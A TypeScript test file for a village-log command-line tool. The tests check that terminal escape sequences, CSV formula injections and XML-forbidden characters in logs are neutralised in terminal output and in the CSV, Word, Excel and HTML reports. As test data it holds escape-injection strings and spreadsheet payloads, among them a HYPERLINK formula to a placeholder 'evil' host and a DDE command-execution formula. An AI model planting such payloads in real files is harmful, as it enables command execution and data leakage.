/**
 * Whatever a log holds reaches every output safely: a terminal is shown
 * control characters as visible escapes (printable-text.ts), never obeys
 * them; a spreadsheet opens a resident's `=HYPERLINK(…)` as text
 * (csv-cell.ts); and a character XML forbids cannot make the Word, Excel or
 * HTML report unreadable (xml-safe-text.ts). JSON stays exact.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import JSZip from 'jszip';
import { SaxesParser } from 'saxes';
import { afterAll, describe, expect, it } from 'vitest';
import { TERMINAL_CONTROLS, suggestionLog, writeWorkspace } from '../helpers/hostile-workspace.js';
import { inProcess, spawned } from './hosts.js';

const scratch = mkdtempSync(path.join(tmpdir(), 'revitalize-hostile-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const LOG = 'logs/2023/04/永胜村.yaml';
const ESCAPES = '\u001b]0;OWNED\u0007\u001b[2J';
const HOSTILE = {
  id: `永胜-\u001b[31m01`,
  text: `三组路灯${ESCAPES}不亮\u202e反向\u009b`,
  topic: `议题\u001b[8m隐藏`,
};

describe('a terminal is never handed a control character from a log', () => {
  it('check shows an unknown key of escape sequences as visible escapes', async () => {
    const cwd = writeWorkspace(scratch, { [LOG]: `village: 永胜村\n"\\e]0;OWNED\\a\\e[2Jx": 1\nentries: []\n` });
    for (const host of [inProcess, spawned]) {
      const run = await host(['check', 'ws'], cwd);
      expect(run.exitCode).toBe(0);
      expect(run.stdout).not.toMatch(TERMINAL_CONTROLS);
      expect(run.stdout).toContain('未知字段“\\x1b]0;OWNED\\x07\\x1b[2Jx”');
    }
    // JSON is exact: JSON escapes the characters itself.
    const json = await inProcess(['check', 'ws', '--format', 'json'], cwd);
    expect(json.stdout).not.toMatch(TERMINAL_CONTROLS);
    expect((JSON.parse(json.stdout) as { message: string }[])[0]!.message).toContain('\u001b]0;OWNED\u0007\u001b[2Jx');
  });

  it('shows raw escape bytes of a broken line in the excerpt as visible escapes, the caret under the column', async () => {
    const cwd = writeWorkspace(scratch, { [LOG]: `village: 永胜村\nentries:\n  - date: 2023-04-08\n    note: 好\u001b[2J坏\n` });
    const run = await inProcess(['check', 'ws'], cwd);
    expect(run.exitCode).toBe(1);
    expect(run.stdout).not.toMatch(TERMINAL_CONTROLS);
    expect(run.stdout).toContain('4 |     note: 好\\x1b[2J坏\n');
    expect(run.stdout).toContain('  |             ^\n');
  });

  it("explain, summary, suggestions and add echo a suggestion's escapes as visible escapes, and JSON keeps them exact", async () => {
    const cwd = writeWorkspace(scratch, { [LOG]: suggestionLog([HOSTILE]) });
    const runs = [
      await inProcess(['explain', 'night-talk.suggestions', 'ws', '-m', '2023-04'], cwd),
      await inProcess(['summary', 'ws', '-m', '2023-04'], cwd),
      await inProcess(['suggestions', 'ws', '-m', '2023-04'], cwd),
      await spawned(['suggestions', 'ws', '-m', '2023-04'], cwd),
      await inProcess(
        ['add', 'ws', '-k', 'suggestion', '--village', '永胜村', '-d', '2023-04-09', '-s', `text=又一条${ESCAPES}`, '-s', 'id=新\u001b[1m01'],
        cwd,
      ),
    ];
    for (const run of runs) {
      expect(run.exitCode, run.stderr).toBe(0);
      expect(run.stdout + run.stderr).not.toMatch(TERMINAL_CONTROLS);
    }
    expect(runs[0]!.stdout).toContain('三组路灯\\x1b]0;OWNED\\x07\\x1b[2J不亮\\u202e反向\\x9b');
    expect(runs[2]!.stdout).toContain('永胜-\\x1b[31m01');
    expect(runs[2]!.stdout).toContain('议题\\x1b[8m隐藏');
    expect(runs[4]!.stdout).toContain('又一条\\x1b]0;OWNED\\x07\\x1b[2J');

    const listed = JSON.parse((await inProcess(['suggestions', 'ws', '-m', '2023-04', '--format', 'json'], cwd)).stdout) as { id: string; text: string }[];
    expect(listed.find((row) => row.id === HOSTILE.id)?.text).toBe(HOSTILE.text);
  });

  it('a problem that quotes a value from a log shows its escapes, a line break in it too', async () => {
    const cwd = writeWorkspace(scratch, { [LOG]: `village: "村\\n\\e[2J"\nentries: []\n` });
    const run = await inProcess(['check', 'ws'], cwd);
    expect(run.stdout).not.toMatch(TERMINAL_CONTROLS);
    expect(run.stdout).toContain('村\\x0a\\x1b[2J');
  });
});

describe('a spreadsheet opens no formula from a log', () => {
  const formulas = ['=HYPERLINK("http://evil/"&A1,"click")', "=cmd|' /C calc'!A0", '+SUM(1+1)', '-2+3', '@SUM(A1)'];

  it('suggestions --format csv writes each as text, with a leading quote', async () => {
    const cwd = writeWorkspace(scratch, {
      [LOG]: suggestionLog(formulas.map((formula, index) => ({ id: formula, text: formula, topic: index === 0 ? formula : '村庄环境整治' }))),
    });
    const run = await inProcess(['suggestions', 'ws', '-m', '2023-04', '--format', 'csv'], cwd);
    expect(run.exitCode, run.stderr).toBe(0);
    const cells = run.stdout
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(','));
    expect(cells).toHaveLength(formulas.length);
    expect(run.stdout).toContain(`"'=HYPERLINK(""http://evil/""&A1,""click"")",永胜村,2023-04-08,"'=HYPERLINK(""http://evil/""&A1,""click"")",`);
    expect(run.stdout).toContain("'+SUM(1+1),永胜村,2023-04-08,村庄环境整治,'+SUM(1+1),未办结,,,22,");
    expect(run.stdout).toContain("'-2+3,永胜村,2023-04-08,村庄环境整治,'-2+3,未办结,,,22,");
    expect(run.stdout).toContain("'@SUM(A1),永胜村");
    expect(run.stdout).toContain("'=cmd|' /C calc'!A0,永胜村");
    // Every line starts with a cell that cannot be a formula.
    for (const line of run.stdout
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean))
      expect(line).not.toMatch(/^"?[=+\-@]/);
  });

  it('the CSV report writes a village named like a formula as text, and its figures as numbers', async () => {
    const village = '=HYPERLINK("http://evil/","村")';
    const cwd = writeWorkspace(scratch, { 'logs/2023/04/甲.yaml': suggestionLog([{ id: 'a-1', text: '路灯' }], village) }, [village]);
    const run = await inProcess(['report', 'ws', '-m', '2023-04', '-f', 'csv', '-o', '-'], cwd);
    expect(run.exitCode, run.stderr).toBe(0);
    const rows = run.stdout.split('\r\n').filter((line) => line.includes('night-talk.attendance'));
    expect(rows).toEqual([
      '测试乡,夜谈联访,night-talk.attendance,参会群众（人次）,个数,55,,,55,',
      `"'=HYPERLINK(""http://evil/"",""村"")",夜谈联访,night-talk.attendance,参会群众（人次）,个数,55,,,55,`,
    ]);
  });
});

describe('a character XML forbids cannot break a report file', () => {
  const forbidden = { id: '永胜-\u000b01', text: '路灯\u000b不亮\u001b[31m，\ufffe和\ud800', topic: '环境\u0000整治' };

  /** A strict XML parser over every XML part of an Office file. */
  async function xmlParts(file: string): Promise<string[]> {
    const zip = await JSZip.loadAsync(readFileSync(file));
    const parts = Object.keys(zip.files).filter((name) => /\.(xml|rels)$/.test(name));
    for (const name of parts) {
      const parser = new SaxesParser();
      parser.on('error', (error) => {
        throw new Error(`${name}: ${error.message}`);
      });
      parser.write(await zip.file(name)!.async('string')).close();
    }
    return parts;
  }

  it('Word, Excel and HTML reports stay well-formed, with the text around the characters kept', async () => {
    // An open suggestion from March is overdue in April: it is on the 督办 sheet of the workbook too.
    const cwd = writeWorkspace(scratch, { [LOG]: suggestionLog([{ ...forbidden, date: '2023-03-01' }]) });
    const added = await inProcess(['add', 'ws', '-k', 'suggestion', '--village', '永胜村', '-d', '2023-03-02', '-s', 'text=a\u000bb'], cwd);
    expect(added.exitCode, added.stderr).toBe(0);
    const run = await inProcess(['report', 'ws', '-m', '2023-04', '-f', 'docx,xlsx,html', '--generated-on', '2023-05-01'], cwd);
    expect(run.exitCode, run.stderr).toBe(0);
    const reports = path.join(cwd, 'ws', 'reports');

    expect(await xmlParts(path.join(reports, '2023-04.docx'))).toContain('word/document.xml');
    const document = await (await JSZip.loadAsync(readFileSync(path.join(reports, '2023-04.docx')))).file('word/document.xml')!.async('string');
    expect(document).toContain('路灯不亮[31m，和');

    expect(await xmlParts(path.join(reports, '2023-04.xlsx'))).toContain('xl/sharedStrings.xml');
    const { default: ExcelJS } = await import('exceljs');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path.join(reports, '2023-04.xlsx'));
    const overdue = workbook.worksheets[2]!.getSheetValues().flat().map(String);
    expect(overdue).toContain('路灯不亮[31m，和');
    expect(overdue).toContain('ab');

    const html = readFileSync(path.join(reports, '2023-04.html'), 'utf8');
    expect(html).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\ufffe\uffff]/);
    expect(html).toContain('路灯不亮[31m，和');
  });
});
